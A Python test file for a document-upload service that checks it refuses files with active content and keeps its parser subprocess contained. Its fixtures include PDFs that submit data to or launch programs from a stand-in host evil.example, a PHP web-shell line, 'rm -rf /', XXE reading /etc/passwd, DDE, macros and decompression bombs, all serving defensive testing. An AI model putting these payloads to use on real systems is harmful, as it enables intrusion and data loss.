"""What is refused, each with a sentence that says what to do; and what a crash of the child comes to."""

from __future__ import annotations

import struct
import zlib
from typing import Any

import pytest

from madang.blocks.documents.errors import SENTENCES, NotTaken
from madang.blocks.documents.looking import running
from madang.blocks.documents.models import Blob, Document
from madang.blocks.documents.storage import storage
from madang.blocks.documents.tests import files
from madang.blocks.documents.tests.conftest import Stored

JAVASCRIPT = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
PIXEL = files.picture("PNG")


def refused(store: Stored, content: bytes, name: str = "파일.pdf") -> str:
    with pytest.raises(NotTaken) as caught:
        store(content, name)
    assert str(caught.value) and "%(" not in str(caught.value)
    assert not Document.objects.exists() and not Blob.objects.exists()
    assert not list(storage().stored())
    return caught.value.code


def packed_objects() -> bytes:
    """An action in a packed object, where the bytes of the file do not show its name."""
    inner = b"5 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = zlib.compress(inner)
    return (
        b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )


ACTIVE_PDF = {
    "script at opening": files.small_pdf(JAVASCRIPT),
    "name in codes": files.small_pdf(b"/OpenAction<</S/J#61va#53cript/JS(x)>>"),
    "packed object": files.small_pdf(more_objects=packed_objects()),
    "program": files.small_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "sent away": files.small_pdf(b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>"),
    "another file on opening": files.small_pdf(
        b"/OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)/D[0/Fit]>>"
    ),
    "an address on opening": files.small_pdf(b"/OpenAction<</S/URI/URI(http://evil.example)>>"),
    "files inside": files.small_pdf(b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"),
    "attachment of a page": files.small_pdf(
        more_objects=b"4 0 obj\n<</Type/Annot/Subtype/FileAttachment/FS<</EF<<>>>>>>\nendobj\n"
    ),
    "XFA": files.small_pdf(b"/AcroForm<</XFA[(template)4 0 R]>>"),
    "film": files.small_pdf(more_objects=b"4 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj\n"),
}


@pytest.mark.parametrize("what", ACTIVE_PDF)
def test_a_pdf_that_acts_by_itself_is_refused(what: str, store: Stored) -> None:
    assert refused(store, ACTIVE_PDF[what]) == "active"


def test_an_ordinary_pdf_that_opens_at_a_page_is_taken(store: Stored) -> None:
    assert store(files.small_pdf(b"/OpenAction[3 0 R/Fit]")).blob is not None
    assert store(files.small_pdf(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), "b.pdf").blob is not None
    assert store(
        files.small_pdf(
            more_objects=b"4 0 obj\n<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://a.example)>>>>\nendobj\n"
        ),
        "c.pdf",
    )


def test_a_pdf_that_is_locked_against_changes_only_is_taken(store: Stored) -> None:
    import io

    from pypdf import PdfReader, PdfWriter

    def locked(content: bytes, user: str) -> bytes:
        writer, file = PdfWriter(clone_from=PdfReader(io.BytesIO(content))), io.BytesIO()
        writer.encrypt(user, "owner", algorithm="AES-256")
        writer.write(file)
        return file.getvalue()

    assert store(locked(files.small_pdf(), "")).blob is not None
    for content, user, code in (
        (files.small_pdf(), "secret", "locked"),
        (files.small_pdf(JAVASCRIPT), "", "active"),
    ):
        with pytest.raises(NotTaken) as caught:
            store(locked(content, user))
        assert caught.value.code == code


POLYGLOTS = {
    "ZIP behind a PDF": files.small_pdf() + files.package({"a.txt": "x"}),
    "words behind a PDF": files.small_pdf() + b"<script>alert(1)</script>",
    "ZIP behind a PNG": PIXEL + files.package({"a.txt": "x"}),
    "words behind a PNG": PIXEL + b"hello",
    "ZIP behind a JPEG": files.picture("JPEG") + files.package({"a.txt": "x"}),
    "script behind a JPEG": files.picture("JPEG") + b"<?php system($_GET[0]); ?>",
    "PDF in a JPEG": files.picture("JPEG")[:20] + b"%PDF-1.7\n" + files.picture("JPEG")[20:],
    "PDF behind a line": b"hello\n" + files.small_pdf(),
    "words behind a DOCX": files.docx() + b"hello",
    "behind a WebP": files.picture("WEBP") + b"hello",
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_two_kinds_in_one_file_are_refused(what: str, store: Stored) -> None:
    assert refused(store, POLYGLOTS[what]) in {"polyglot", "archive", "program"}


def test_a_telephones_film_behind_its_photo_is_taken(store: Stored) -> None:
    photo = files.picture("JPEG") + struct.pack(">I", 24) + b"ftypmp42" + b"\0" * 12
    assert store(photo, "IMG_0001.jpg").blob is not None


PACKAGES = {
    "macros": (files.docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (
        files.package(
            {
                "[Content_Types].xml": '<Types x="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
                "word/document.xml": "<a/>",
            }
        ),
        "macros",
    ),
    "macros in ODT": (files.odt(**{"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "scripts in ODT": (files.odt(**{"Scripts/python/a.py": "x"}), "macros"),
    "object inside": (files.docx(**{"word/embeddings/oleObject1.bin": b"x"}), "inside"),
    "program inside": (files.hwpx(**{"BinData/run.exe": b"MZ"}), "inside"),
    "object in HWPX": (files.hwpx(**{"BinData/ole1.ole": b"x"}), "inside"),
    "script in HWPX": (files.hwpx(script="function OnDocument_Open() { run(); }"), "active"),
    "script hidden by a line end": (files.hwpx(script="// x\u2028run();"), "active"),
    "template from outside": (
        files.docx(
            **{
                "word/_rels/settings.xml.rels": '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
            }
        ),
        "fetched",
    ),
    "DDE": (
        files.docx(
            body="<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd</w:instrText></w:r></w:p>"
        ),
        "active",
    ),
    "entities": (
        files.docx(**{"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'}),
        "active",
    ),
    "outside entity": (
        files.hwpx(
            **{"Contents/header.xml": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
        ),
        "active",
    ),
    "page inside": (files.docx(**{"word/afchunk.html": "<p>x</p>"}), "inside"),
    "macro behind an event": (
        files.odt(
            **{
                "styles.xml": '<a xlink:href="vnd.sun.star.script:Standard.a?language=Basic" xmlns:xlink="x"/>'
            }
        ),
        "macros",
    ),
    "picture from outside in ODT": (
        files.odt(
            **{
                "styles.xml": '<draw:image xlink:href="http://evil.example/a.png" xmlns:xlink="x" xmlns:draw="y"/>'
            }
        ),
        "fetched",
    ),
    "picture from outside in HWPX": (
        files.hwpx(**{"Contents/content.hpf": '<opf:item href="\\\\evil.example\\a.png" xmlns:opf="x"/>'}),
        "fetched",
    ),
    "path out": (files.docx(**{"../../etc/cron.d/a": "x"}), "torn"),
    "torn XML": (files.docx(**{"word/styles.xml": "<a><b></a>"}), "torn"),
    "deep XML": (files.docx(**{"word/styles.xml": "<a>" * 5000 + "</a>" * 5000}), "bomb"),
    "plain archive": (files.package({"a.txt": "x"}), "archive"),
    "another package": (files.package({"mimetype": "application/epub+zip", "a": "x"}, True), "unknown"),
    "slides": (files.package({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<a/>"}), "unknown"),
    "empty archive": (b"PK\x05\x06" + b"\0" * 18, "archive"),
    "torn archive": (files.docx()[:-30], "polyglot"),
}


@pytest.mark.parametrize("what", PACKAGES)
def test_packages_with_what_acts_are_refused(what: str, store: Stored) -> None:
    content, code = PACKAGES[what]
    assert refused(store, content, "문서.docx") == code


def test_a_package_that_swells_is_refused(store: Stored) -> None:
    assert refused(store, files.docx(**{"word/media/a.xml": b"\0" * 300_000_000}), "a.docx") == "bomb"


def test_a_package_that_lies_about_its_size_is_refused(store: Stored) -> None:
    honest = files.docx(**{"word/media/a.xml": b"\0" * 200_000_000})
    lying = honest.replace(struct.pack("<I", 200_000_000), struct.pack("<I", 1000))
    assert refused(store, lying, "a.docx") in {"bomb", "torn"}


HWP = {
    "password": (files.hwp(flags=2), "locked"),
    "only to be read": (files.hwp(flags=4), "locked"),
    "object inside": (files.hwp(**{"BinData/BIN0001.OLE": b"x"}), "inside"),
    "PostScript inside": (files.hwp(**{"BinData/BIN0002.eps": b"%!PS"}), "inside"),
    "script": (
        files.hwp(
            **{
                "Scripts/DefaultJScript": struct.pack("<I", 20)
                + "function a() {run()}".encode("utf-16-le")
                + b"\xff" * 4
            }
        ),
        "active",
    ),
    "an old Word file": (files.compound({"WordDocument": b"x"}), "old-office"),
    "one with macros": (files.compound({"Macros/VBA": b"x", "WordDocument": b"x"}), "macros"),
    "torn": (files.hwp()[:700], "torn"),
}


@pytest.mark.parametrize("what", HWP)
def test_hwp_with_what_acts_and_old_office_files_are_refused(what: str, store: Stored) -> None:
    content, code = HWP[what]
    assert refused(store, content, "문서.hwp") == code


OTHERS = {
    "empty": (b"", "empty"),
    "program": (b"MZ\x90\x00" + b"\0" * 100, "program"),
    "shell": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "page": ("<!DOCTYPE html><p>안녕".encode(), "program"),
    "page behind blanks": (b"\xef\xbb\xbf  \n<html>", "program"),
    "SVG": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "program"),
    "XML": (b'<?xml version="1.0"?><a/>', "program"),
    "script in words": ("안녕 <script>alert(1)</script>".encode(), "program"),
    "HEIC": (b"\0\0\0\x18ftypheic" + b"\0" * 30, "heic"),
    "RAR": (b"Rar!\x1a\x07\x00" + b"\0" * 30, "archive"),
    "gzip": (b"\x1f\x8b\x08" + b"\0" * 30, "archive"),
    "ALZ": (b"ALZ\x01" + b"\0" * 30, "archive"),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + b"\0" * 30, "program"),
    "noise": (bytes(range(256)) * 4, "unknown"),
    "torn PDF": (files.small_pdf()[:-40], "torn"),
    "PDF of nothing": (b"%PDF-1.7\n%%EOF", "torn"),
    "locked PDF": (
        files.small_pdf().replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(oooooooooooooooooooooooooooooooo)/U(uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu)/P -4>>/ID[(a)(a)]",
        ),
        "locked",
    ),
    "torn PNG": (PIXEL[:40], "torn"),
    "torn JPEG": (files.picture("JPEG")[:200], "torn"),
    "PNG bomb": (files.png_that_says(30_000, 30_000), "pixels"),
    "PNG of one long line": (files.png_that_says(2_000_000_000, 1), "pixels"),
}


@pytest.mark.parametrize("what", OTHERS)
def test_other_files_are_refused(what: str, store: Stored) -> None:
    content, code = OTHERS[what]
    assert refused(store, content, "파일.txt") == code


def test_each_reason_has_a_sentence_and_each_sentence_a_reason() -> None:
    """So that no file is refused by a code alone."""
    from pathlib import Path

    import madang.blocks.documents as room

    source = "".join(
        path.read_text(encoding="utf-8")
        for path in Path(room.__path__[0]).rglob("*.py")
        if "tests" not in path.parts and path.name != "errors.py"
    )
    unused = [code for code in SENTENCES if f'"{code}"' not in source]
    assert not unused


@pytest.mark.parametrize(
    "end",
    ["import os; os.abort()", "import time; time.sleep(600)", "bytearray(10**11)", "raise SystemExit(0)"],
)
def test_a_crash_in_the_child_is_no_words_and_no_file_never_an_error_page(
    end: str, store: Stored, pdf: bytes, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    document = store(pdf)
    (tmp_path / "hostile.py").write_text(end)
    real = running.subprocess.Popen

    def crashing(command: list[str], **more: Any) -> Any:
        return real([command[0], str(tmp_path / "hostile.py")], **more)

    monkeypatch.setattr(running.subprocess, "Popen", crashing)
    monkeypatch.setattr(running, "WALL", 0.05)
    with storage().local(document.blob.key) as path:  # type: ignore[union-attr]
        assert running.text(path, "pdf", tmp_path) == (None, False)
        assert not running.picture("preview", path, "pdf", tmp_path / "no.png", tmp_path)
    with pytest.raises(NotTaken) as caught:
        store(pdf, "again.pdf")
    assert caught.value.code == "unreadable"


def test_the_child_is_bound_in_memory(tmp_path: Any) -> None:
    """A picture just below the bound of pixels in 32 bits is still drawn; twice the memory is not to be had."""
    from madang.blocks.documents.looking import child

    script = f"import sys; sys.path.insert(0, '.'); from madang.blocks.documents.looking.child import confine; confine('text'); bytearray({child.MEMORY})"
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert "MemoryError" in done.stderr
